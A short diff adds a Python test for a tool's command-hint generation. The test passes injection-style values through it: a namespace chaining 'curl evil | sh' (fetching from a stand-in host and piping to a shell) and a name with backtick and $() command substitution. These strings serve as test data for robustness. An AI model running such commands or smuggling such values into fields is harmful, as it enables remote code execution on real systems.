@@ -62,6 +62,12 @@ def test_a_registry_that_lies_breaks_nothing(name: str, value: Any) -> None:
         assert isinstance(hint(kind, **{name: value}), str)
 
 
+def test_a_command_with_words_of_a_registry_is_one_command() -> None:
+    evil = {"rule": "any", "namespace": "a; curl evil | sh", "excluded": ["b`id`;$(id)"]}
+    found = hint(errors.NoSuchArtifactError, serve=evil)
+    assert "set 'a; curl evil | sh' --serve" in found and "promote 'b`id`;$(id)'" in found
+
+
 def test_without_facts_the_hint_of_the_registry_stays() -> None:
     for kind in errors.BY_CODE.values():
         assert command_hint(kind(context={})) is None or kind is errors.NoWorkerError
